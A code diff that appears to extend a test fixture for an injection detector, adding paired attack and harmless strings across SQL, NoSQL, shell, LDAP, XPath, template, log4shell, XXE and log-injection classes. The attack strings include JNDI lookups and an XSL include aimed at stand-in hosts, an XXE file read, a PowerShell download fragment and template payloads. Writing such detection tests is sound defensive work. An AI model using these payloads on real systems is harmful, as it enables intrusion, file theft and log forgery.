@@ -13,6 +13,9 @@ interface Pair {
 
 const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
   sql: [
+    { floor: 'possible', attack: "x' union select@@hostname", harmless: 'write to union@select.example' },
+    { floor: 'possible', attack: '7-sleep(3)', harmless: 'await sleep(3)' },
+    { floor: 'possible', attack: "'^'", harmless: 'x^y' },
     { floor: 'possible', attack: '5 and 3 > (select floor(rand(0)*2))', harmless: 'a number from floor (rand) to 2' },
     { floor: 'possible', attack: ') as pins from', harmless: 'kept (for now) as pins from the wall' },
     { floor: 'possible', attack: "execute immediate 'x'", harmless: 'execute immediately' },
@@ -38,6 +41,8 @@ const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
     { floor: 'possible', attack: 'or q=q', harmless: 'for q=quantity' },
   ],
   nosql: [
+    { floor: 'possible', attack: '/?q={"$lookup":{"from":"pins"}}', harmless: '{"pipeline":[{"$lookup":{"from":"pins"}}]}' },
+    { floor: 'possible', attack: "'}) return 1 union match (u:Pin) return u//", harmless: 'a union match is on Saturday' },
     { floor: 'likely', attack: '{"login":{"$lt":"m"}}', harmless: '{"price":{"$lt":"9"}}' },
     { floor: 'possible', attack: "tea' || 1 || 'x", harmless: 'const name = first || last' },
     { floor: 'possible', attack: '}, { pin: /.*/ }', harmless: 'between {a}, {b}' },
@@ -52,6 +57,9 @@ const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
     { floor: 'possible', attack: '{"role":{"$regex":"^adm"}}', harmless: '{"role":{"regex":"adm"}}' },
   ],
   command: [
+    { floor: 'possible', attack: 'powershell iex(new-object net.webclient)', harmless: 'powershell is not installed' },
+    { floor: 'possible', attack: '%programfiles:~10,1%', harmless: '10:~ 20 % of all' },
+    { floor: 'possible', attack: ';w^hoami', harmless: 'a^b is a power' },
     { floor: 'possible', attack: 'for /l %%q in (1,1,9) do echo %%q', harmless: 'for 5 % in (all) do they pay' },
     { floor: 'possible', attack: 'if not exist "pins.txt" echo none', harmless: 'fails if not existing in echo mode' },
     { floor: 'possible', attack: 'if %pins% gtr 9 goto out', harmless: 'if 5 % are greater, go out' },
@@ -79,6 +87,8 @@ const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
     { floor: 'possible', attack: 'a%0Als -la', harmless: 'first line%0Alast line' },
   ],
   ldap: [
+    { floor: 'possible', attack: 'x)!(sn=*', harmless: 'wow)!(really' },
+    { floor: 'possible', attack: '/?q=%28%26%28mail%3D*%29%28sn%3Da%29%29', harmless: '/?q=%28a%3Db%29' },
     { floor: 'possible', attack: 'jane)(*', harmless: 'f(x)(y)' },
     { floor: 'possible', attack: 'jane))%00', harmless: 'done :))' },
     { floor: 'possible', attack: '(&(uid=jane)(1=1))', harmless: '(&(uid=jane)(active=1))' },
@@ -87,11 +97,14 @@ const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
     { floor: 'possible', attack: '*(|(mail=*))', harmless: '2 * (3 + 4) | (5)' },
   ],
   xpath: [
+    { floor: 'likely', attack: "') or true() or ('", harmless: 'expect(x).toBe(true())' },
     { floor: 'likely', attack: "' or name()='user' or 'a'='b", harmless: "user.name() === 'user'" },
     { floor: 'likely', attack: "x' and count(/*)=1 and 'a'='a", harmless: 'SELECT count(*) FROM a' },
     { floor: 'possible', attack: "'] | //user/*[1", harmless: '// user comment | 1' },
   ],
   template: [
+    { floor: 'possible', attack: '{{{9*9}}}', harmless: '{{{pins}}}' },
+    { floor: 'possible', attack: '[=9*9]', harmless: '--pins[=9]' },
     { floor: 'certain', attack: "{{''.__class__.__mro__[1].__subclasses__()}}", harmless: 'Hello {{name}}, your order {{order.id}} left' },
     { floor: 'likely', attack: '{{8*8}}', harmless: '{{count}} x {{price}}' },
     { floor: 'likely', attack: '${T(java.lang.Runtime).getRuntime()}', harmless: '${stage}-${region}-table' },
@@ -101,6 +114,7 @@ const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
     { floor: 'possible', attack: '{% debug %}', harmless: '{% if user %}x{% endif %}' },
   ],
   log4shell: [
+    { floor: 'certain', attack: '${j${k8s:x:-nd}i:dns://pins.example}', harmless: 'a smile ${name:-nobody}' },
     { floor: 'certain', attack: '${jndi:ldap://203.0.113.9/a}', harmless: 'Looking up jndi name ${name}' },
     { floor: 'certain', attack: '${${lower:j}${::-n}${env:X:-d}i:rmi://203.0.113.9/a}', harmless: '${lower} and ${env}' },
     { floor: 'possible', attack: '${sys:java.version}', harmless: '${system.version}' },
@@ -163,6 +177,8 @@ const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
     },
   ],
   xxe: [
+    { floor: 'likely', attack: '+ADwAIQ-DOCTYPE a +AFs', harmless: 'Plan +adw and more' },
+    { floor: 'possible', attack: '<xsl:include href="http://pins.example/x"/>', harmless: '<xsl:include href="local.xsl"/>' },
     {
       floor: 'certain',
       attack: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
@@ -193,6 +209,9 @@ const PAIRS: Readonly<Record<InjectionClass, readonly Pair[]>> = {
     { floor: 'possible', attack: '%0d%0a', harmless: 'text=one%0d%0atwo' },
   ],
   'log-injection': [
+    { floor: 'possible', attack: 'bob\\n[ERROR] paid twice', harmless: 'a note: see line\\n[1] of the list' },
+    { floor: 'likely', attack: '/?q=bob%0A%7B%22level%22%3A%22info%22%7D', harmless: '/?q=%7B%22level%22%3A%22info%22%7D' },
+    { floor: 'likely', attack: '/?q=bob%E2%80%A8ERROR paid', harmless: '/?q=bob%E2%80%94ERROR' },
     { floor: 'likely', attack: 'q=jane%0a198.51.100.7 - - [01/Mar/2026] GET /', harmless: 'q=jane%0a7 apples - 3 pears' },
     { floor: 'possible', attack: 'jane\r\n[INFO] login of admin succeeded', harmless: 'build failed\nsee [the log] for more' },
     { floor: 'likely', attack: 'q=jane%0d%0a[CRITICAL] disk lost', harmless: 'q=jane%0d%0a[1] note' },
